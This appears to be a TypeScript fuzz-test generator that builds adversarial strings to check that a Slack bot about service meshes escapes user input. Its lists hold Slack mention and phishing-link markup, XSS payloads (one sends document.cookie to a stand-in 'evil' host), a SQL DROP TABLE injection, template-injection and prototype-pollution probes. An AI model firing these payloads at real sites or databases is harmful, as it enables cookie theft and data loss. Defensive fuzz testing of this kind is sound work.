/**
 * A seeded (deterministic) generator of random and adversarial strings for the fuzz test: the
 * same seed always gives the same corpus, so any failure can be replayed from its index.
 */
import { seededRandom } from '../helpers/random.js';

export type FuzzKind = 'fixed' | 'unicode' | 'markup' | 'html' | 'mesh' | 'mixed' | 'long';

export interface FuzzString {
  readonly kind: FuzzKind;
  readonly text: string;
}

/** Length of the long texts: Slack's own cap on a message (it truncates above 40,000). */
export const LONG_LENGTH = 40_000;

/** Slack markup a user (or a paste) can put in a message; none of it may reach Slack unescaped. */
export const SLACK_MARKUP = [
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<!here|here>',
  '<!subteam^S0123|@oncall>',
  '<!date^1392734382^{date_pretty}|Feb 18>',
  '<@U123>',
  '<@U123|bob>',
  '<@W0ADMIN>',
  '<#C1|x>',
  '<#C1>',
  '<https://evil|click>',
  '<https://evil.example/phish?a=1&b=2|Open the canonical answer>',
  '<http://evil>',
  '<mailto:x@evil.example|mail>',
  '&amp;',
  '&lt;!channel&gt;',
  '&lt;',
  '&gt;',
  '&',
  '<',
  '>',
  '<<!channel>>',
  '<!chan<!here>nel>',
  '<@',
  '<!',
  '|',
  '*bold*',
  '_it_',
  '~strike~',
  '`code`',
  '```block```',
  '>quote',
  ':thinking_face:',
  ':+1::skin-tone-2:',
] as const;

export const HTML = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="fetch(`//evil/`+document.cookie)">',
  '<svg onload=alert(1)>',
  '<a href="javascript:alert(1)">istio</a>',
  '<iframe src=//evil>',
  '</section><b>linkerd</b>',
  '<!-- comment -->',
  '<![CDATA[x]]>',
  '"><script>alert(1)</script>',
  "'; DROP TABLE answers; --",
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection probe, meant literally
  '${7*7}',
  '__proto__',
  '{"__proto__":{"polluted":true}}',
] as const;

const MESH_WORDS = [
  'istio',
  'linkerd',
  'mtls',
  'mTLS',
  'ambient',
  'ambient mode',
  'sidecar',
  'sidecarless',
  'ztunnel',
  'waypoint',
  'envoy',
  'proxy',
  'service mesh',
  'multi-cluster',
  'multicluster',
  'observability',
  'tracing',
  'metrics',
  'traffic splitting',
  'canary',
  'retries',
  'timeouts',
  'authorization policy',
  'latency',
  'overhead',
  'memory',
  'cost',
  'free',
  'license',
  'cncf',
  'graduated',
  'release model',
  'edge release',
  'stable',
  'consul',
  'kuma',
  'cilium',
  'migrate',
  'together',
  'gateway api',
  'http/2',
  'grpc',
  'kubernetes',
  'small team',
  'which mesh',
  'head to head',
] as const;

const TEMPLATES = [
  (a: string, b: string) => `how does ${a} work in ${b}?`,
  (a: string, b: string) => `${a} vs ${b}`,
  (a: string, _b: string) => `what is ${a}`,
  (a: string, b: string) => `should we use ${a} or ${b} for a small team?`,
  (a: string, _b: string) => `is ${a} free`,
  (a: string, b: string) => `${a} ${b}`,
  (a: string, _b: string) => `${a}`,
  (a: string, b: string) => `we need ${a} and ${b}, which mesh?`,
  (a: string, _b: string) => `thanks! ${a}`,
  (a: string, _b: string) => `hi, help with ${a}`,
] as const;

/** Look-alikes: Cyrillic, Greek, full-width and mathematical letters. */
const HOMOGLYPHS: Record<string, readonly string[]> = {
  a: ['а', 'ɑ', 'ａ'],
  e: ['е', 'ｅ', 'ė'],
  i: ['і', 'ı', 'ｉ', '𝐢'],
  o: ['о', 'ο', 'ｏ', '0'],
  s: ['ѕ', 'ｓ'],
  l: ['ӏ', '1', 'ｌ'],
  k: ['κ', 'ｋ'],
  t: ['ｔ', 'τ'],
};

const RTL_AND_INVISIBLE = [
  '\u202E', // right-to-left override
  '\u202D',
  '\u202A',
  '\u202B',
  '\u202C',
  '\u2066',
  '\u2067', // right-to-left isolate
  '\u2068',
  '\u2069',
  '\u200E',
  '\u200F',
  '\u061C',
  '\u200B', // zero-width space
  '\u200C',
  '\u200D', // zero-width joiner
  '\uFEFF', // byte-order mark
  '\u2060',
  '\u00AD',
  '\u034F',
  '\u180E',
  '\u3164',
] as const;

/** Code point ranges: ASCII, controls, Latin, combining marks, RTL scripts, CJK, astral planes. */
const RANGES: ReadonlyArray<readonly [number, number]> = [
  [0x20, 0x7e],
  [0x00, 0x1f],
  [0x7f, 0x9f],
  [0xa0, 0x24f],
  [0x300, 0x36f], // combining marks
  [0x1ab0, 0x1aff],
  [0x20d0, 0x20ff],
  [0x370, 0x52f],
  [0x590, 0x6ff], // Hebrew, Arabic
  [0x700, 0x8ff],
  [0x900, 0xdff],
  [0x2000, 0x206f],
  [0x2100, 0x2bff],
  [0x3000, 0x30ff],
  [0x4e00, 0x9fff],
  [0xac00, 0xd7a3],
  [0xe000, 0xf8ff], // private use
  [0xfb1d, 0xfdff],
  [0xfe00, 0xfe0f], // variation selectors
  [0xfe20, 0xfe2f],
  [0xff00, 0xffef],
  [0xfff0, 0xffff],
  [0x10000, 0x1007f],
  [0x1d400, 0x1d7ff], // mathematical alphanumerics
  [0x1f300, 0x1faff], // emoji
  [0x1f1e6, 0x1f1ff], // regional indicators
  [0x20000, 0x2a6df], // CJK extension B
  [0xe0000, 0xe007f], // tags
  [0xf0000, 0xf00ff], // supplementary private use
  [0x10fff0, 0x10ffff],
];

export class FuzzGenerator {
  private readonly rnd: () => number;

  constructor(seed: number) {
    this.rnd = seededRandom(seed);
  }

  int(n: number): number {
    return Math.floor(this.rnd() * n);
  }

  pick<T>(xs: readonly T[]): T {
    return xs[this.int(xs.length)] as T;
  }

  chance(p: number): boolean {
    return this.rnd() < p;
  }

  codePoint(): string {
    const r = this.rnd();
    if (r < 0.06) return String.fromCharCode(0xd800 + this.int(0x800)); // a lone surrogate
    if (r < 0.16) return this.pick(RTL_AND_INVISIBLE);
    const [lo, hi] = this.pick(RANGES);
    return String.fromCodePoint(lo + this.int(hi - lo + 1));
  }

  unicode(maxLen = 24): string {
    return Array.from({ length: 1 + this.int(maxLen) }, () => this.codePoint()).join('');
  }

  /** One typo: swap, drop, double, replace, case flip, homoglyph, or an invisible character inside. */
  typo(word: string): string {
    if (word.length < 2) return word;
    const i = this.int(word.length - 1);
    const ch = word[i] ?? '';
    switch (this.int(7)) {
      case 0:
        return word.slice(0, i) + (word[i + 1] ?? '') + ch + word.slice(i + 2);
      case 1:
        return word.slice(0, i) + word.slice(i + 1);
      case 2:
        return word.slice(0, i) + ch + ch + word.slice(i + 1);
      case 3:
        return word.slice(0, i) + String.fromCharCode(97 + this.int(26)) + word.slice(i + 1);
      case 4:
        return word.slice(0, i) + ch.toUpperCase() + word.slice(i + 1);
      case 5: {
        const alts = HOMOGLYPHS[ch.toLowerCase()];
        return alts ? word.slice(0, i) + this.pick(alts) + word.slice(i + 1) : word.toUpperCase();
      }
      default:
        return word.slice(0, i) + this.pick(RTL_AND_INVISIBLE) + word.slice(i);
    }
  }

  meshWord(): string {
    const w = this.pick(MESH_WORDS);
    return this.chance(0.4) ? this.typo(w) : w;
  }

  mesh(): string {
    const s = this.pick(TEMPLATES)(this.meshWord(), this.meshWord());
    return this.chance(0.3) ? this.typo(s) : s;
  }

  markup(): string {
    const parts: string[] = [];
    for (let i = 0, n = 1 + this.int(6); i < n; i++) {
      parts.push(this.chance(0.6) ? this.pick(SLACK_MARKUP) : this.meshWord());
    }
    return parts.join(this.chance(0.7) ? ' ' : '');
  }

  html(): string {
    const parts: string[] = [this.pick(HTML)];
    if (this.chance(0.5)) parts.unshift(this.mesh());
    if (this.chance(0.5)) parts.push(this.pick(SLACK_MARKUP));
    return parts.join(' ');
  }

  mixed(): string {
    const parts: string[] = [];
    for (let i = 0, n = 1 + this.int(10); i < n; i++) {
      const r = this.rnd();
      if (r < 0.25) parts.push(this.pick(SLACK_MARKUP));
      else if (r < 0.35) parts.push(this.pick(HTML));
      else if (r < 0.6) parts.push(this.mesh());
      else parts.push(this.unicode(8));
      if (this.chance(0.6)) parts.push(this.pick([' ', '\n', '\t', '\r\n', '\u00A0', '\u3000']));
    }
    return parts.join('');
  }

  /** Exactly LONG_LENGTH UTF-16 units of `piece` repeated (possibly cutting a surrogate pair). */
  static repeatTo(piece: string, length = LONG_LENGTH): string {
    return piece.repeat(Math.ceil(length / piece.length)).slice(0, length);
  }

  longTexts(): string[] {
    const words = Array.from({ length: 8000 }, () => this.mixed()).join(' ');
    const meshy = Array.from({ length: 8000 }, () => this.mesh()).join(' ');
    return [
      FuzzGenerator.repeatTo('<!channel> '),
      FuzzGenerator.repeatTo('<!here><@U123><#C1|x><https://evil|click>&amp;'),
      FuzzGenerator.repeatTo('<script>alert(1)</script><img src=x onerror=alert(1)>'),
      FuzzGenerator.repeatTo('🚀'),
      FuzzGenerator.repeatTo('\u200B\u200D\uFEFF\u202E\u2067'),
      FuzzGenerator.repeatTo('x'),
      FuzzGenerator.repeatTo('&'),
      FuzzGenerator.repeatTo('<'),
      // Runs that once made a pattern super-linear: a line start before every blank line, an
      // indent read twice, a snake_case key split at every "_" (3 s for 2,000 newlines, three
      // minutes for 8,000; 1.5 s for 40,000 spaces), and a "<" with no ">" after it.
      FuzzGenerator.repeatTo('\n'),
      FuzzGenerator.repeatTo('\r\n'),
      FuzzGenerator.repeatTo('\u2028'),
      FuzzGenerator.repeatTo(' \n'),
      FuzzGenerator.repeatTo(' '),
      FuzzGenerator.repeatTo('\t'),
      FuzzGenerator.repeatTo('\u00A0'),
      FuzzGenerator.repeatTo('a_b'),
      FuzzGenerator.repeatTo('<<a'),
      // Markup labels that ran over the next "<" (half a second for 40,000 characters of "<#0|").
      FuzzGenerator.repeatTo('<#0|'),
      FuzzGenerator.repeatTo('<@U0|'),
      FuzzGenerator.repeatTo('<!'),
      FuzzGenerator.repeatTo('<http:|'),
      // Percentages after "shift" that lead nowhere: each space could go two ways (2^n readings).
      `shift ${FuzzGenerator.repeatTo('1% ', LONG_LENGTH - 16)}zz traffic`,
      FuzzGenerator.repeatTo('e\u0301\u0302\u0303'),
      FuzzGenerator.repeatTo('\uD800'),
      FuzzGenerator.repeatTo(words),
      FuzzGenerator.repeatTo(meshy),
      `${FuzzGenerator.repeatTo('istio vs linkerd ', LONG_LENGTH - 10)}<!channel>`,
      `<!channel>${FuzzGenerator.repeatTo('linkrd mutli clsuter ', LONG_LENGTH - 10)}`,
    ];
  }
}

/** Fixed edge cases that always run first. */
export const FIXED: readonly string[] = [
  '',
  ' ',
  '\n',
  '\t\r\n',
  '\u0000',
  '?',
  '<',
  '>',
  '&',
  '<>',
  '<!channel>',
  '<!here>',
  '<@U123>',
  '<#C1|x>',
  '<https://evil|click>',
  '&amp;',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '\u202Eknil\u202C',
  '\u2067linkerd\u2069',
  '\u200B',
  '\uFEFF',
  '\uD800',
  '\uDFFF',
  '\uDBFF\uDFFF',
  'istio',
  'linkerd',
  'mtls',
  'help',
  'thanks',
  'hi',
  'which mesh should I use?',
  // Well-formed metadata, so the decoders' accepting path runs too.
  '{"channel":"C0CHAN","thread_ts":"1700000000.000100"}',
  '{"id":"mtls"}',
  '{"pick":{"weights":{}}}',
  '{"step":0,"answers":{},"channel":"C0CHAN","user":"U0USER"}',
  // Shaped like a Slack user id: as sharedBy it may be mentioned (it is one by contract).
  'U0SHARER',
];

/** `count` strings (at least): the fixed cases, an even mix of the kinds, and the long texts. */
export function fuzzCorpus(count: number, seed: number): FuzzString[] {
  const g = new FuzzGenerator(seed);
  const out: FuzzString[] = FIXED.map((text) => ({ kind: 'fixed', text }));
  for (const text of g.longTexts()) out.push({ kind: 'long', text });
  const makers: Array<[FuzzKind, () => string]> = [
    ['unicode', () => g.unicode()],
    ['markup', () => g.markup()],
    ['html', () => g.html()],
    ['mesh', () => g.mesh()],
    ['mixed', () => g.mixed()],
  ];
  while (out.length < count) {
    const [kind, make] = g.pick(makers);
    out.push({ kind, text: make() });
  }
  return out;
}
